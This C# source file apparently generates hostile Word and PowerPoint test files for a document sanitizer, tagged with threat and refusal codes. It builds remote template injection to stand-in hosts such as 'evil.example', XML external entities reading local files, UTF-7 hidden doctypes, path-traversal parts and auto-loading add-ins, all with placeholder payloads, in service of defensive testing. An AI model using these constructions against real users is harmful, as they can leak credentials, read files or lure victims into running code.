            yield return Pptx("X-27", $"{action.Replace("KAMAKIRI", "…", StringComparison.Ordinal)} on click and on hover", Slide($"<a:hlinkClick r:id=\"rId7\" action=\"{action}\"/><a:hlinkHover r:id=\"rId7\" action=\"{action}\"/>").To("ppt/slides/slide1.xml", "rId7", "hyperlink", "file:///c:/KAMAKIRI.exe", true), action);
    }

    private static IEnumerable<HostileFile> Settings()
    {
        var settings = Word().To("word/document.xml", "rId2", "settings", "settings.xml")
            .Part("word/settings.xml", Made.Open + "wordprocessingml.settings+xml", $"<w:settings {Made.W} xmlns:sl=\"http://schemas.openxmlformats.org/schemaLibrary/2006/main\"><w:attachedTemplate r:id=\"rId1\"/><w:mailMerge><w:query w:val=\"KAMAKIRI\"/><w:dataSource r:id=\"rId2\"/></w:mailMerge><w:attachedSchema w:val=\"KAMAKIRI\"/><w:docVars><w:docVar w:name=\"n\" w:val=\"KAMAKIRI\"/></w:docVars><w:saveThroughXslt r:id=\"rId3\"/><sl:schemaLibrary><sl:schema sl:uri=\"KAMAKIRI\"/></sl:schemaLibrary></w:settings>")
            .To("word/settings.xml", "rId1", "attachedTemplate", "\\\\evil\\KAMAKIRI.dotm", true).To("word/settings.xml", "rId2", "mailMergeSource", "file:///KAMAKIRI.mdb", true).To("word/settings.xml", "rId3", "transform", "http://evil/KAMAKIRI.xslt", true).To("word/settings.xml", "rId4", "recipientData", "r.xml").Part("word/r.xml", Made.Open + "wordprocessingml.mailMergeRecipientData+xml", "<w:recipients>KAMAKIRI</w:recipients>");
        foreach (var (threat, needle) in new[] { ("X-05", "attachedTemplate"), ("X-26", "mailMerge"), ("X-35", "docVars") }) yield return Docx(threat, "settings that lead outside", settings, needle);
        yield return Docx("X-05", "a template in strict names behind a prefix of its own", new Made().To("", "rId1", "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", "word/document.xml").Part("word/document.xml", Made.Open + "wordprocessingml.document.main+xml", "<q:document xmlns:q=\"http://purl.oclc.org/ooxml/wordprocessingml/main\"><q:body><q:p><q:r><q:t>nokoru</q:t></q:r></q:p></q:body></q:document>")
            .To("word/document.xml", "rId2", "http://purl.oclc.org/ooxml/officeDocument/relationships/settings", "settings.xml").Part("word/settings.xml", Made.Open + "wordprocessingml.settings+xml", "<z:settings xmlns:z=\"http://purl.oclc.org/ooxml/wordprocessingml/main\" xmlns:y=\"http://purl.oclc.org/ooxml/officeDocument/relationships\"><z:attachedTemplate y:id=\"a\"/></z:settings>")
            .To("word/settings.xml", "a", "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", "http://evil.example/KAMAKIRI.dotm", true), "attachedTemplate");
        yield return Docx("X-15", "a ribbon that calls at opening, tool bars and keys", Word().Part("customUI/customUI14.xml", "application/xml", "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"KAMAKIRI\"/>").To("", "rId7", Ms + "ui/extensibility", "customUI/customUI14.xml")
            .Part("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", "<x>KAMAKIRI</x>").To("word/document.xml", "rId8", Ms + "keyMapCustomizations", "customizations.xml").Part("word/attachedToolbars.bin", "application/vnd.ms-word.attachedToolbars", "KAMAKIRI").To("word/document.xml", "rId9", Ms + "attachedToolbars", "attachedToolbars.bin"), "onLoad", "attachedToolbars");
        yield return Docx("X-16", "a web add-in that opens by itself", Word().Part("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\"><wetp:taskpane visibility=\"1\">KAMAKIRI</wetp:taskpane></wetp:taskpanes>")
            .To("", "rId8", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml").Part("word/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml", "<x>KAMAKIRI</x>").To("word/webextensions/taskpanes.xml", "rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension", "webextension1.xml"), "taskpane");
        yield return Docx("X-21", "a store of custom XML that nothing shows", Word().Part("customXml/item1.xml", "", "<a xmlns=\"urn:x\">KAMAKIRI</a>").To("word/document.xml", "rId3", "customXml", "../customXml/item1.xml")
            .Part("customXml/itemProps1.xml", Made.Open + "customXmlProperties+xml", "<ds:datastoreItem xmlns:ds=\"http://schemas.openxmlformats.org/officeDocument/2006/customXml\" ds:itemID=\"{11111111-2222-3333-4444-555555555555}\"/>").To("customXml/item1.xml", "rId1", "customXmlProps", "itemProps1.xml"), "datastoreItem");
        yield return Docx("X-24", "properties, a thumbnail, authors and session numbers", Word("<w:p w:rsidR=\"00ABCDEF\"><w:ins w:id=\"2\" w:author=\"x\" w:date=\"2026-01-01T00:00:00Z\"><w:r><w:t>a</w:t></w:r></w:ins></w:p>").Part("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>KAMAKIRI</dc:creator></cp:coreProperties>").To("", "rId3", Package + "metadata/core-properties", "docProps/core.xml")
            .Part("docProps/thumbnail.png", "", [.. Made.Png, .. "KAMAKIRI"u8]).To("", "rId4", Package + "metadata/thumbnail", "docProps/thumbnail.png").Part("docProps/custom.xml", Made.Open + "custom-properties+xml", "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\"><property>KAMAKIRI</property></Properties>").To("", "rId5", "custom-properties", "docProps/custom.xml"), "creator", "00ABCDEF", "thumbnail");
        yield return new HostileFile("X-24", "changes and comments, where the policy takes them out", "a.docx", Word("<w:p><w:commentRangeStart w:id=\"1\"/><w:ins w:id=\"2\" w:author=\"KAMAKIRI\"><w:r><w:t>nokoru</w:t></w:r></w:ins><w:del w:id=\"3\" w:author=\"KAMAKIRI\"><w:r><w:delText>KAMAKIRI</w:delText></w:r></w:del><w:commentRangeEnd w:id=\"1\"/><w:r><w:commentReference w:id=\"1\"/></w:r></w:p>")
            .Part("word/comments.xml", Made.Open + "wordprocessingml.comments+xml", $"<w:comments {Made.W}><w:comment w:id=\"1\" w:author=\"KAMAKIRI\"><w:p><w:r><w:t>KAMAKIRI</w:t></w:r></w:p></w:comment></w:comments>").To("word/document.xml", "rId2", "comments", "comments.xml").Bytes(), HostileFile.Mark, "w:ins", "w:del") { Policy = "office:\n  comments: drop\n  tracked-changes: accept\n" };
        yield return Docx("X-31", "a digital signature", Word().Part("_xmlsignatures/origin.sigs", "application/vnd.openxmlformats-package.digital-signature-origin", "").To("", "rId9", Package + "digital-signature/origin", "_xmlsignatures/origin.sigs")
            .Part("_xmlsignatures/sig1.xml", "application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml", "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\">KAMAKIRI</Signature>").To("_xmlsignatures/origin.sigs", "rId1", Package + "digital-signature/signature", "sig1.xml"), "xmldsig");
    }

    private static IEnumerable<HostileFile> Containers()
    {
        static byte[] With(string part, Func<byte[], byte[]> change) => Rewritten(Word().Bytes(), part, change);
        foreach (var part in (string[])["word/document.xml", "_rels/.rels", "[Content_Types].xml"])
        {
            yield return new HostileFile("X-25", $"entities in {part}", "a.docx", With(part, static b => [.. "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY k SYSTEM \"file:///KAMAKIRI\">]>"u8, .. b]), HostileFile.Mark) { Refused = "SAN-OOXML-002" };
        }
        yield return new HostileFile("X-25", "entities in UTF-16", "a.docx", With("word/document.xml", static b => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<!DOCTYPE x [<!ENTITY k \"KAMAKIRI\">]>" + Encoding.UTF8.GetString(b))]), HostileFile.Mark) { Refused = "SAN-OOXML-002" };
        yield return new HostileFile("X-25", "an encoding that hides the document type (UTF-7)", "a.docx", With("word/document.xml", static b => [.. "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-!DOCTYPE x KAMAKIRI+AD4-"u8, .. b]), HostileFile.Mark) { Refused = "SAN-OOXML-001" };
        yield return new HostileFile("X-28", "two parts of names that differ in case", "a.docx", Word().Part("WORD/Document.xml", "", "<x>KAMAKIRI</x>").Bytes(), HostileFile.Mark) { Refused = "SAN-OOXML-003" };
        yield return new HostileFile("X-28", "two members of one name", "a.docx", Twice(), HostileFile.Mark) { Refused = "SAN-OOXML-003" };
        yield return new HostileFile("X-28", "a part that leads out of the package", "a.docx", Word().Part("../KAMAKIRI.xml", "", "KAMAKIRI").Part("..\\KAMAKIRI2.xml", "", "KAMAKIRI").Bytes(), HostileFile.Mark) { Kept = ["nokoru"] };
        yield return new HostileFile("X-28", "bytes before and behind the package", "a.docx", [.. Word().Bytes(), .. "KAMAKIRI"u8], HostileFile.Mark) { Told = "X-28", Kept = ["nokoru"] };
        yield return new HostileFile("X-32", "a password on the package", "a.docx", new Cfb().Add("EncryptionInfo", [4, 0, 4, 0, 0x40, 0, 0, 0, .. "<encryption/>"u8]).Add("EncryptedPackage", [.. new byte[8], .. "KAMAKIRI"u8, .. new byte[100]]).Build(), HostileFile.Mark) { Refused = "SAN-OOXML-007" };
    }

    private static byte[] Twice()
    {
        var raw = new RawZip();
        using var zip = new ZipArchive(new MemoryStream(Word().Bytes()));
        foreach (var entry in zip.Entries)
        {
            using var stream = entry.Open();
            using var copy = new MemoryStream();
            stream.CopyTo(copy);
            raw.Add(Encoding.UTF8.GetBytes(entry.FullName), copy.ToArray());
        }
        return raw.Add("word/document.xml", "<x>KAMAKIRI</x>").Finish();
    }

    internal static byte[] Rewritten(byte[] package, string part, Func<byte[], byte[]> change)
    {
        var stream = new MemoryStream();
        using (var from = new ZipArchive(new MemoryStream(package)))
        using (var to = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in from.Entries)
            {
                using var read = entry.Open();
                using var copy = new MemoryStream();
                read.CopyTo(copy);
                using var write = to.CreateEntry(entry.FullName).Open();
                write.Write(entry.FullName == part ? change(copy.ToArray()) : copy.ToArray());
            }
        }
        return stream.ToArray();
    }
}
